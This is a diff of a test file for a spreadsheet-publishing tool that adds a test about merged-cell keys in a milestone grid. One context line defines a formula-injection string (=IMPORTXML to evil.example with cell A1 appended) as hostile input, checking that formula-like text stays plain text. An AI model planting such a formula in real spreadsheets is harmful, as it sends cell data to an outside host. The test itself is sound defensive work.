@@ -166,6 +166,24 @@ test("rows added at the grid's end are looked at from the next run on", async ()
   expect(shown(id)[51]).toBe("P-3|10|验收|绿|2026-07-01|P-3/10 第 1 天");
 });
 
+test("a key of which a part stands in a merged cell above is shown to nobody, not to the next row that looks like it", async () => {
+  const id = milestones([
+    ["P-1", 10],
+    [null, 20],
+  ]);
+  const book = open(google(), id);
+  const snapshot = await book.read(ALL);
+  const publication = publicationFor(snapshot, 1);
+  const rowKeys = new Map([
+    [2, "P-1/10"],
+    [3, "P-1/20"],
+  ]);
+  const values = new Map([...rowKeys.values()].map((key) => [key, ["绿", null, key]]));
+  const columns = publication.columns.map((one) => ({ ...one, rowKeys, values }));
+  await book.publish({ ...publication, columns }, snapshot.revision);
+  expect(seen(id).map((row) => row[5])).toEqual(["系统说明", "P-1/10", "未匹配"]);
+});
+
 test("text that begins like a formula is text everywhere, and a key of that kind is found", async () => {
   const evil = '=IMPORTXML("http://evil.example/?"&A1,"//x")';
   const id = milestones([[{ formula: '="=1+"&"1"' }, 10, evil]]);
